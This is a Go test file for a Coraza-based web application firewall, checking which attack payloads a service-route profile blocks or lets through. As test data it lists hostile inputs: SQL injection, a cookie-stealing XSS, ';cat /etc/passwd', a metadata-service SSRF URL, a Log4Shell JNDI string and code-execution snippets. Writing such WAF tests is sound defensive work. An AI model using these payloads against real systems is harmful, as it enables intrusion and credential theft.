package waf

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"

	"github.com/corazawaf/coraza/v3/types"
)

// On a service route (the Services profile) a payload only a removed
// family detects (PHP, Java deserialization, Node.js, Ruby) is inert
// text and passes, while the same payload on any other route is refused;
// SQL injection, XSS, shell commands, traversal, SSRF and Log4Shell are
// refused on both. Each removed payload is shown to trip only rules of a
// removed family, so the test fails if the profile removes too little
// (it is refused) or the sample stops exercising the family.
func TestServiceProfile(t *testing.T) {
	w := newSuiteWAF(t, GatewayConfig())
	var matched []int // detections of the last request
	w.observe = func(_ *http.Request, tx types.Transaction) {
		matched = matched[:0]
		for _, m := range tx.MatchedRules() {
			// Detections carry a message; the markers and helpers do not.
			if id := m.Rule().ID(); id >= 911000 && id < 949000 && m.Message() != "" {
				matched = append(matched, id)
			}
		}
	}
	h := w.Handler(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { rw.WriteHeader(http.StatusNoContent) }))
	post := func(profile bool, memo string) int {
		b, _ := json.Marshal(map[string]any{"from": "acc_1", "to": "acc_2", "amount": 1, "memo": memo})
		r := jsonPost("/v1/transfers", string(b))
		if profile {
			r = r.WithContext(WithProfile(r.Context(), Services))
		}
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, r)
		return rec.Code
	}
	inert := map[string]string{
		"PHP tag":                "<?php echo $a; ?>",
		"PHP wrapper":            "php://filter/resource=index",
		"PHP serialized object":  `O:8:"stdClass":1:{s:1:"a";i:1;}`,
		"Java gadget class":      "org.apache.commons.collections.functors.InvokerTransformer",
		"Java class":             "java.lang.ProcessBuilder",
		"Node.js injection":      "require('child_process').spawn",
		"Ruby injection":         "Kernel.exec('id')",
		"JS prototype pollution": "__proto__[admin]=1",
	}
	for name, memo := range inert {
		if code := post(false, memo); code != http.StatusForbidden {
			t.Errorf("%s %q outside a service route: %d, want 403 (the sample no longer trips its family)", name, memo, code)
		}
		for _, id := range matched {
			if !removed(id) {
				t.Errorf("%s %q also trips %d, which the service profile keeps: not a sample of a removed family", name, memo, id)
			}
		}
		if code := post(true, memo); code != http.StatusNoContent {
			t.Errorf("%s %q on a service route: %d, want it to pass (inert text there)", name, memo, code)
		}
	}
	attacks := map[string]string{
		"SQL injection": "1' UNION SELECT password FROM users--",
		"XSS":           "<script>alert(document.cookie)</script>",
		"shell command": ";cat /etc/passwd",
		"traversal":     "../../../../etc/passwd",
		"SSRF":          "http://169.254.169.254/latest/meta-data/",
		"Log4Shell":     "${jndi:ldap://198.51.100.1/a}",
		"SSTI":          "{{7*7}}${7*7}<%= 7*7 %>",
	}
	for name, memo := range attacks {
		for _, profile := range []bool{false, true} {
			if code := post(profile, memo); code != http.StatusForbidden {
				t.Errorf("%s %q (service profile %v): %d, want 403", name, memo, profile, code)
			}
		}
	}
}

// Every range a profile removes is a rule id or a range of ids, and the
// service profile keeps each family's paranoia-level markers.
func TestProfileConfig(t *testing.T) {
	for _, bad := range []string{"", "93310a", "933100-", "933100 933200", "933100-933999\nSecRuleEngine Off"} {
		if _, err := New(Config{Profiles: []Profile{{Name: "p", Remove: []string{bad}}}}); err == nil {
			t.Errorf("Remove %q accepted", bad)
		}
	}
	for _, ids := range ServiceProfile().Remove {
		if a, b := idRange(ids); a%1000 < 100 || b%1000 < 100 {
			t.Errorf("the service profile removes %s, a family's paranoia-level markers", ids)
		}
	}
}

// removed reports whether the service profile removes rule id.
func removed(id int) bool {
	for _, ids := range ServiceProfile().Remove {
		if a, b := idRange(ids); a <= id && id <= b {
			return true
		}
	}
	return false
}

// idRange reads "933100" or "933100-933999".
func idRange(ids string) (int, int) {
	lo, hi, ok := strings.Cut(ids, "-")
	if !ok {
		hi = lo
	}
	a, _ := strconv.Atoi(lo)
	b, _ := strconv.Atoi(hi)
	return a, b
}
